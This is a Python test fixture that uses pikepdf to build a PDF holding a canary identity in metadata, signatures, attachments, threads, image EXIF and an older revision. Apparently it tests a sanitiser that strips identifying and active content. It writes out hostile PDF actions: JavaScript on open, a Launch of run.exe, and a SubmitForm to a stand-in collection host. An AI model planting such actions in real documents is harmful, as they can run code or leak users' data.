"""A PDF with the canary in every hiding place listed in issue 11, and active content."""

import io
import re

import pikepdf

from tests import samples
from tests.reviews.hostile import media
from tests.reviews.hostile.canary import EMAIL, HOME, NAME, ORCID, USERNAME

Name, Dictionary, String = pikepdf.Name, pikepdf.Dictionary, pikepdf.String
BODY = "Structural racism shapes access to care."
SAFE_LINK = "https://www.who.int/"


def _annotation(pdf, page, subtype, **entries) -> pikepdf.Object:
    annotation = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=subtype, Rect=[72, 500, 92, 520], **entries)
    )
    page.obj.Annots = pdf.make_indirect([*page.obj.get("/Annots", []), annotation])
    return annotation


def _metadata(pdf: pikepdf.Pdf, page) -> None:
    """Info (standard and custom keys), XMP at document and page level, private app data."""
    pdf.docinfo["/Author"] = NAME
    pdf.docinfo["/Creator"] = USERNAME
    pdf.docinfo["/Subject"] = EMAIL
    pdf.docinfo["/Keywords"] = ORCID
    pdf.docinfo["/Company"] = NAME
    with pdf.open_metadata(set_pikepdf_as_editor=False, update_docinfo=False) as meta:
        meta["dc:creator"] = [NAME]
        meta["xmp:CreatorTool"] = USERNAME
    page.obj.Metadata = pdf.make_stream(media.XMP.encode())
    private = Dictionary(Private=String(NAME), LastModified=String("D:20250101"))
    pdf.Root.PieceInfo = Dictionary(Zx=private)
    page.obj.PieceInfo = Dictionary(Zx=private)


def _signature(pdf: pikepdf.Pdf, page) -> None:
    """A signed signature field: the signer's name, contact, place, reason and certificate."""
    value = Dictionary(
        Type=Name.Sig,
        Filter=Name("/Adobe.PPKLite"),
        SubFilter=Name("/adbe.pkcs7.detached"),
        Name=String(NAME),
        ContactInfo=String(EMAIL),
        Location=String(HOME),
        Reason=String(f"I, {NAME}, approve"),
        M=String("D:20250101000000Z"),
        ByteRange=[0, 0, 0, 0],
        Contents=String(NAME.encode("utf-16-be")),
        Prop_Build=Dictionary(App=Dictionary(Name=Name(f"/{USERNAME}"))),
    )
    field = _annotation(
        pdf, page, Name.Widget, FT=Name.Sig, T=String("Signature1"), V=value, F=132, P=page.obj
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=[field], SigFlags=3, XFA=pdf.make_stream(f"<xdp>{NAME}</xdp>".encode())
    )
    pdf.Root.DSS = Dictionary(Certs=[pdf.make_stream(f"CN={NAME}, E={EMAIL}".encode())])
    pdf.Root.Perms = Dictionary(DocMDP=value)


def _attachments(pdf: pikepdf.Pdf, page) -> None:
    """An embedded file with its name, description and parameters; a file annotation."""
    notes = pikepdf.AttachedFileSpec(
        pdf, f"{NAME} {EMAIL}".encode(), description=f"Notes of {NAME}", mime_type="text/plain"
    )
    pdf.attachments[f"{USERNAME}-notes.txt"] = notes
    pdf.attachments[f"{USERNAME}-notes.txt"].obj.EF.F.Params = Dictionary(Mac=String(NAME))
    attached = pikepdf.AttachedFileSpec(pdf, ORCID.encode(), filename=f"{USERNAME}.txt")
    _annotation(pdf, page, Name.FileAttachment, FS=attached.obj, T=String(NAME))


def _actions(pdf: pikepdf.Pdf, page) -> None:
    """JavaScript on opening, in the name tree and on the page; outward actions; authors."""
    script = Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{NAME}')"))
    pdf.Root.OpenAction = script
    pdf.Root.Names.JavaScript = Dictionary(Names=[String("zx"), script])
    page.obj.AA = Dictionary(O=script)
    for action in (
        Dictionary(S=Name.Launch, F=String(f"{HOME}\\run.exe")),
        Dictionary(S=Name.SubmitForm, F=String(f"https://collect.example/{USERNAME}")),
        Dictionary(S=Name.GoToR, F=String(f"{HOME}\\other.pdf"), D=[0, Name.Fit]),
        Dictionary(S=Name.URI, URI=String(f"javascript:alert('{USERNAME}')")),
        Dictionary(S=Name.URI, URI=String(SAFE_LINK), Next=script),
    ):
        _annotation(pdf, page, Name.Link, A=action)
    _annotation(pdf, page, Name.Link, A=Dictionary(S=Name.URI, URI=String(SAFE_LINK)))
    note = _annotation(pdf, page, Name.Text, T=String(NAME), Contents=String("Cite this."))
    _annotation(pdf, page, Name.Popup, T=String(NAME), Parent=note)


def _threads_and_pictures(pdf: pikepdf.Pdf, page) -> None:
    """An article thread with its author, and a JPEG photo carrying EXIF and XMP."""
    thread = pdf.make_indirect(Dictionary(Type=Name.Thread, I=Dictionary(Author=String(NAME))))
    bead = pdf.make_indirect(Dictionary(Type=Name.Bead, T=thread, P=page.obj, R=[0, 0, 9, 9]))
    bead.N, bead.V, thread.F = bead, bead, bead
    pdf.Root.Threads = [thread]
    page.obj.B = [bead]
    photo = pdf.make_stream(media.jpeg_everywhere())
    photo.stream_dict = Dictionary(
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=16,
        Height=12,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=Name.DCTDecode,
        Metadata=pdf.make_stream(media.XMP.encode()),
    )
    page.obj.Resources.XObject = Dictionary(Im1=photo)
    page.contents_add(pdf.make_stream(b"q 16 0 0 12 72 600 cm /Im1 Do Q"))


def _earlier_revision_below(data: bytes, root: str) -> bytes:
    """An incremental update on top: the current Info is bland, the first one still names."""
    prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    size = int(re.findall(rb"/Size (\d+)", data)[-1])
    update = f"\n{size} 0 obj\n<< /Producer (Word) >>\nendobj\n".encode()
    xref = len(data) + len(update)
    update += (
        f"xref\n{size} 1\n{len(data) + 1:010d} 00000 n \ntrailer\n<< /Size {size + 1} "
        f"/Root {root} /Info {size} 0 R /Prev {prev} >>\nstartxref\n{xref}\n%%EOF\n"
    ).encode()
    return data + update


def pdf_bytes() -> bytes:
    """A PDF with the canary in every hiding place listed in issue 11."""
    with pikepdf.open(io.BytesIO(samples.pdf_bytes(BODY))) as pdf:
        page = pdf.pages[0]
        _metadata(pdf, page)
        _signature(pdf, page)
        _attachments(pdf, page)
        _actions(pdf, page)
        _threads_and_pictures(pdf, page)
        root = f"{pdf.Root.objgen[0]} {pdf.Root.objgen[1]} R"
        out = io.BytesIO()
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return _earlier_revision_below(out.getvalue(), root)
